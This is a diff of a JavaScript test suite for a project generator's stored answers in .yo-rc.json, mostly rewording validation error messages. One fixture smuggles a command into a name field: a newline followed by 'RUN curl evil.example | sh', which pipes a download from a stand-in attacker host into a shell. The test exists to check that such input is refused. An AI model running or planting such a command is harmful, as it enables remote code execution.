@@ -45,11 +45,8 @@ describe('stored answers', () => {
 
   it('are validated like any others: what was edited by hand is refused, and says where it is', () => {
     const edited = { ...stored({}), name: 'x\nRUN curl evil.example | sh' };
-    assert.match(
-      refusal({}, edited),
-      /^name "x\\nRUN curl .*" \(in \.yo-rc\.json\) is not allowed/,
-    );
-    assert.match(refusal({}, { port: '80' }), /^--port "80" \(in \.yo-rc\.json\) is not allowed/);
+    assert.match(refusal({}, edited), /^name "x\\nRUN curl .*" \(in \.yo-rc\.json\) isn't valid/);
+    assert.match(refusal({}, { port: '80' }), /^--port "80" \(in \.yo-rc\.json\) isn't valid/);
   });
 
   it('are named all at once where several cannot be used', () => {
@@ -164,14 +161,14 @@ describe('a .yo-rc.json', () => {
   for (const text of broken)
     it(`that is broken is refused with a sentence, read or written: ${JSON.stringify(text)}`, () => {
       for (const use of [() => readStored(text), () => writeStored(text, parsed())])
-        assert.throws(use, isRefusal('.yo-rc.json is not a JSON object: mend or delete it.'));
+        assert.throws(use, isRefusal(".yo-rc.json isn't a JSON object. Fix or delete the file."));
     });
 
   for (const answers of ['[]', '7', '"x"', 'true'])
     it(`that holds no answers where ours should be is refused with a sentence: ${answers}`, () => {
       assert.throws(
         () => readStored(`{"${key}": ${answers}}`),
-        isRefusal(`.yo-rc.json holds no answers under "${key}": mend or delete it.`),
+        isRefusal(`.yo-rc.json has no object under "${key}". Fix or delete the file.`),
       );
     });
 });
